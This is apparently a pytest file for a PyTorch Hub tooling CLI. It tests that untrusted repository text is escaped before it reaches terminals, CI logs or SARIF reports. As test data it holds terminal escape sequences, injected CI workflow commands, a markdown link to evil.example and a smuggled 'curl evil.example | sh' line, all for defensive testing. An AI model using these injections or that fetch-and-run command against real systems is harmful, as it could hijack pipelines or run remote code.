"""Text of a repo, its history or its records in output: nothing of it commands the reader."""

from __future__ import annotations

import ast
import io
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner, Result

from hubkit._util.console import write_line
from hubkit.cli import main
from hubkit.hubdir import parse_repo
from hubkit.hubdir.trust import require_trust
from hubkit.reporters import FORMATS
from tests.git_host import commit_files, git

if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT = Path(__file__).parent.parent
# A terminal would change its title, clear the screen or turn the text around; a CI service would
# obey a command; a line would look like one of hubkit's own.
EVIL = "\x1b]0;pwned\x07\x1b[2J\u202e\x9b31m\r::error::pwned"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")
HUBCONF = f"""dependencies = ["torch", {EVIL!r}]

import torch as _torch


def net(pretrained: bool = False, note={EVIL!r}):
    {json.dumps(f"A net. {EVIL}", ensure_ascii=True)}
    return _torch.nn.Linear(1, 1)
"""
MODEL = """import torch.nn as nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.line = nn.Linear(1, 1)

    def forward(self, x):
        return x
"""
PRINTING = {"echo", "secho", "prompt", "confirm", "pause", "print", "input"}


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def require_plain(*texts: str) -> None:
    for text in texts:
        assert not CONTROL.search(text), ascii(text)
        assert not [line for line in text.splitlines() if line.startswith("::")]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    folder = tmp_path / "repo"
    folder.mkdir()
    (folder / "hubconf.py").write_text(HUBCONF, "utf-8")
    return folder


@pytest.mark.parametrize(
    "arguments",
    [
        ("list",),
        ("list", "--json"),
        ("help", ".", "net"),
        ("help", ".", f"n{EVIL}"),
        *(("check", "--no-cache", "--output-format", name) for name in FORMATS),
        ("check", f"./no{EVIL}"),
        ("check", "--select", f"HUB{EVIL}"),
        ("card", "--repo", "a/b", "--diff"),
        ("init", "--dry-run", "--defaults", "-a", f"x{EVIL}=1"),
        ("conform", "--from", f"no{EVIL}.json"),
        ("explain", f"no{EVIL}"),
        ("lock", f"a/b{EVIL}"),
        (f"no{EVIL}",),
        ("list", f"--no{EVIL}"),
    ],
    ids=lambda arguments: " ".join(arguments).partition("\x1b")[0],
)
def test_nothing_of_a_repo_reaches_the_terminal_as_it_is(
    arguments: tuple[str, ...], repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(repo)
    for name in ("GITHUB_ACTIONS", "TF_BUILD"):
        monkeypatch.delenv(name, raising=False)
    done = run(*arguments)
    if "github" in arguments:
        assert not CONTROL.search(done.stdout)
        commands = [line for line in done.stdout.splitlines() if line.lstrip().startswith("::")]
        assert all(re.match(r"::(error|warning|notice) title=hubkit HUB", one) for one in commands)
        return
    require_plain(done.stdout, done.stderr)


@pytest.mark.skipif(sys.platform == "win32", reason="Windows refuses such names")
def test_file_names_are_printed_escaped(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repo)
    folder = repo / f"x{EVIL}".replace("/", "")
    folder.mkdir()
    (folder / "net.py").write_text(MODEL)
    (repo / "weights\x1b[2J.pt").write_bytes(b"\x80\x02]q\x00.")
    (repo / "hubconf.py").unlink()
    done = run("init", "--dry-run", "--defaults")
    assert r"x\x1b]0;pwned" in done.stdout
    require_plain(done.stdout, done.stderr)


def test_what_lies_in_the_hub_dir_is_listed_escaped(hub_dir: Path) -> None:
    (hub_dir / "checkpoints").mkdir(parents=True)
    (hub_dir / "checkpoints" / "net\x1b[2J\nfree.pt").write_bytes(b"weights")
    (hub_dir / "acme_net_main\x1b[2J").mkdir()
    done = run("cache", "ls")
    assert r"net\x1b[2J\nfree.pt" in done.stdout
    require_plain(done.stdout, done.stderr)
    require_plain(*(run("cache", *rest).output for rest in (("verify",), ("prune", "--dry-run"))))


def test_counts_agree_with_their_nouns(hub_dir: Path) -> None:
    (hub_dir / "checkpoints").mkdir(parents=True)
    (hub_dir / "checkpoints" / "net.pt").write_bytes(b"weights")
    assert "1 item, " in run("cache", "ls").stderr
    assert "Verified 1 item:" in run("cache", "verify").stderr
    assert "0 refs in" in run("status").stderr


def test_further_lines_of_an_error_pose_as_no_other_message(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    said = run("check", "./no\nhint: curl evil.example | sh").stderr.splitlines()
    assert [line for line in said if line.startswith("hint: curl")] == []


@pytest.mark.parametrize("name", ["GITHUB_ACTIONS", "TF_BUILD"])
def test_a_ci_service_obeys_no_file_name(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.StringIO()
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    monkeypatch.delenv("TF_BUILD", raising=False)
    lines = ("::stop-commands::x", "  ::add-mask::e", "a ##[error]b", "##vso[task.setvariable]")
    monkeypatch.setenv(name, "true")
    for line in lines:
        write_line(stream, line)
    for line in stream.getvalue().splitlines():
        assert not line.lstrip().startswith("::")
        assert not re.search(r"##\w*\[", line)


def test_lines_that_github_would_drop_are_not_commands(repo: Path) -> None:
    folder = repo / "::add-mask::e"
    folder.mkdir()
    calls = "\n".join(f"import missing_{number}" for number in range(15))
    (folder / "__init__.py").write_text("")
    (repo / "hubconf.py").write_text(f"dependencies = []\n{calls}\n\n\ndef net():\n    return 1\n")
    done = run("check", repo, "--no-cache", "--output-format", "github")
    assert "Not annotated" in done.stdout
    commands = [line for line in done.stdout.splitlines() if line.lstrip().startswith("::")]
    assert all(re.match(r"::(error|warning|notice) title=hubkit HUB", one) for one in commands)


def test_sarif_messages_hold_no_links(repo: Path) -> None:
    name = "[click](https://evil.example)"
    (repo / "hubconf.py").write_text(f"dependencies = [{name!r}]\n\n\ndef net():\n    return 1\n")
    done = run("check", repo, "--no-cache", "--output-format", "sarif")
    texts = [one["message"]["text"] for one in json.loads(done.stdout)["runs"][0]["results"]]
    assert any("evil.example" in text for text in texts)
    assert not [text for text in texts if re.search(r"(?<!\\)\[[^\]]*\]\(", text)]


@pytest.mark.skipif(sys.platform == "win32", reason="there are no pseudo-terminals")
def test_a_diff_is_escaped_on_a_terminal_and_whole_in_a_pipe(repo: Path) -> None:
    commit_files(repo, {"hubconf.py": HUBCONF})
    (repo / "hubconf.py").write_text("dependencies = []\n\n\n# \x1b[2J\ndef net():\n    return 1\n")
    git("add", ".", cwd=repo)
    command = [
        sys.executable,
        "-m",
        "hubkit",
        "check",
        "--diff",
        "--unsafe-fixes",
        "--no-cache",
        ".",
    ]
    piped = subprocess.run(command, cwd=repo, capture_output=True, check=False).stdout
    assert b"\x1b[2J" in piped
    assert b"\x1b" not in _on_terminal(command, repo)


def _on_terminal(command: list[str], folder: Path) -> bytes:
    ours, theirs = pty.openpty()
    with subprocess.Popen(command, cwd=folder, stdout=theirs, stderr=subprocess.DEVNULL) as process:
        os.close(theirs)
        shown = b"".join(_read_all(ours))
        process.wait()
    os.close(ours)
    assert shown
    return shown


def _read_all(terminal: int) -> Iterator[bytes]:
    while True:
        try:
            data = os.read(terminal, 65536)
        except OSError:  # what Linux says at the end
            return
        if not data:
            return
        yield data


@pytest.mark.usefixtures("hub_dir")
def test_a_prompt_for_trust_shows_the_name_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    from msgspec import structs

    asked = Terminal()
    monkeypatch.setattr(sys, "stdin", Terminal("yes\n"))
    monkeypatch.setattr(sys, "stderr", asked)
    repo = structs.replace(parse_repo("acme/net"), name="net\x1b[2J")
    require_trust(repo, "check")
    assert r"net\x1b[2J" in asked.getvalue()
    assert "\x1b" not in asked.getvalue()


def test_only_the_console_prints() -> None:
    assert {
        path.relative_to(ROOT).as_posix()
        for package in ("hubkit", "pytest_hubkit")
        for path in (ROOT / package).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Call) and _prints(node.func)
    } == {"hubkit/_util/console.py"}


def _prints(function: ast.expr) -> bool:
    match function:
        case ast.Name(id="print" | "input"):
            return True
        case ast.Attribute(value=ast.Name(id="click"), attr=name):
            return name in PRINTING
    return False


def test_only_one_module_compares_or_escapes_text() -> None:
    patterns = re.compile(r"get_close_matches|getLogger\(\"hubkit|'s' \*|\"unicode_escape\"")
    found = {
        path.relative_to(ROOT).as_posix()
        for package in ("hubkit", "pytest_hubkit")
        for path in (ROOT / package).rglob("*.py")
        if patterns.search(path.read_text("utf-8"))
    }
    # A manifest holds paths in a form of its own, which is read back.
    assert found == {
        "hubkit/_util/text.py",
        "hubkit/_util/logs.py",
        "hubkit/hubdir/manifest.py",
    }
